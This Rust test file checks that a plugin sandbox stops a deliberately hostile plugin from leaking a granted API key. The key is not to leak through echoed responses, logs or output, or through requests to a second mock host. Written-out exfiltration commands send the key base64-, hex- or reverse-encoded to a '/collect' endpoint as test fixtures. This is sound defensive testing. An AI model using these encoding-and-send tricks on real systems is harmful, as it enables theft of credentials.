//! A plugin granted a secret for one host and any grant for another must not be able to
//! carry the secret across: not when its provider echoes the key encoded, not by sending an
//! encoded copy to the other host, and not out through its answers or its output.

use decision_matrix::plugins::CallError;
use decision_matrix_testkit::hostile::{
    ECHO_ENCODINGS, echo_encoded, echo_server, encoding_echo_server,
};

use super::*;

/// A grant for `bound` (the secret's host) and `other` (any other allowed host).
fn two_hosts(bound: &MockServer, other: &MockServer) -> Grant {
    let mut grant = grant_for(bound, true);
    grant.hosts.push(pattern(&other.base_url()));
    grant
}

/// Makes the host read the secret (it is read on first use), as the plugin's first real
/// request to its provider would.
async fn use_the_secret(plugin: &BackendPlugin, bound: &MockServer) {
    let answer = run(
        plugin,
        &format!("fetch GET {}/raw auth=bearer:test-key", bound.base_url()),
    )
    .await
    .expect("a request with the granted secret");
    assert!(answer.starts_with("status=200"), "{answer}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_echo_of_the_key_in_any_common_encoding_is_scrubbed_before_the_guest_sees_it() {
    let bound = encoding_echo_server().await;
    let (_host, catalog) = host_with(grant_for(&bound, true));
    let plugin = adversary(&catalog);

    for encoding in ECHO_ENCODINGS {
        let answer = run(
            &plugin,
            &format!(
                "fetch GET {}/{encoding} auth=bearer:test-key",
                bound.base_url()
            ),
        )
        .await
        .expect("the echo");
        let echoed = echo_encoded(encoding, SECRET).expect("a known encoding");
        assert!(
            !answer
                .to_ascii_lowercase()
                .contains(&echoed.to_ascii_lowercase()),
            "{encoding}: the guest read the key back: {answer}"
        );
        assert!(
            answer.matches("[REDACTED]").count() >= 2,
            "{encoding}: header and body both scrubbed: {answer}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_encoded_key_is_not_sent_to_a_host_it_is_not_bound_to() {
    let bound = encoding_echo_server().await;
    let other = echo_server().await;
    let (_host, catalog) = host_with(two_hosts(&bound, &other));
    let plugin = adversary(&catalog);
    use_the_secret(&plugin, &bound).await;

    let exfiltrations = [
        (
            format!(
                "fetch POST {}/collect body={}",
                other.base_url(),
                echo_encoded("base64", SECRET).unwrap()
            ),
            "body",
            "base64-encoded",
        ),
        (
            format!(
                "fetch GET {}/collect?k={}",
                other.base_url(),
                echo_encoded("hex-upper", SECRET).unwrap()
            ),
            "URL",
            "hex-encoded",
        ),
        (
            format!(
                "fetch GET {}/collect header=x-note:{}",
                other.base_url(),
                echo_encoded("reversed", SECRET).unwrap()
            ),
            "headers",
            "reversed",
        ),
        (
            format!("fetch POST {}/collect body=k={SECRET}", other.base_url()),
            "body",
            "as is",
        ),
    ];
    for (command, part, spelling) in exfiltrations {
        let err = run(&plugin, &command).await.unwrap_err();
        let text = err.to_string();
        assert!(matches!(err, CallError::Plugin { .. }), "{err:?}");
        assert!(
            text.contains("Denied")
                && text.contains(&format!(
                    "request's {part} carry the value of secret 'test-key' ({spelling})"
                )),
            "{command}: {text}"
        );
        assert!(!text.contains(SECRET), "{text}");
    }
    assert!(
        other.requests().is_empty(),
        "nothing reached the other host: {:?}",
        other.requests()
    );

    // Where the secret is bound, the plugin may send it as it likes.
    let answer = run(
        &plugin,
        &format!(
            "fetch POST {}/raw auth=bearer:test-key body={SECRET}",
            bound.base_url()
        ),
    )
    .await
    .expect("the bound host may receive the key");
    assert!(answer.starts_with("status=200"), "{answer}");
    still_serving(&plugin).await;
}

// A current-thread runtime keeps the plugin call on this thread, where the capturing
// subscriber is installed.
#[tokio::test(flavor = "current_thread")]
async fn the_key_never_reaches_answers_or_the_log_through_guest_output() {
    let (captured, _guard) = capture_logs();

    let bound = encoding_echo_server().await;
    let (_host, catalog) = host_with(grant_for(&bound, true));
    let plugin = adversary(&catalog);
    use_the_secret(&plugin, &bound).await;

    let base64 = echo_encoded("base64", SECRET).unwrap();
    let answer = run(&plugin, &format!("echo key {SECRET} and {base64}"))
        .await
        .expect("echo");
    // Only the characters of the base64 text that encode the key itself are cut out; the
    // ones around them encode "Bearer " and padding.
    assert!(answer.starts_with("key [REDACTED] and "), "{answer}");
    assert_eq!(answer.matches("[REDACTED]").count(), 2, "{answer}");
    assert!(!answer.contains(&base64), "{answer}");
    run(&plugin, &format!("stdio printed {SECRET} {base64}"))
        .await
        .expect("stdio");
    run(&plugin, &format!("log warn logged {SECRET}"))
        .await
        .expect("log");
    let err = run(&plugin, &format!("nonsense {SECRET}"))
        .await
        .unwrap_err();
    assert!(!err.to_string().contains(SECRET), "{err}");

    let logs = String::from_utf8(captured.0.lock().expect("lock").clone()).expect("utf-8");
    let printed: Vec<&str> = logs.lines().filter(|l| l.contains("printed")).collect();
    assert_eq!(printed.len(), 2, "stdout and stderr: {logs}");
    assert!(
        printed.iter().all(|l| l.matches("[REDACTED]").count() == 2),
        "{logs}"
    );
    assert!(logs.contains("logged [REDACTED]"), "{logs}");
    assert!(!logs.contains(SECRET) && !logs.contains(&base64), "{logs}");
}
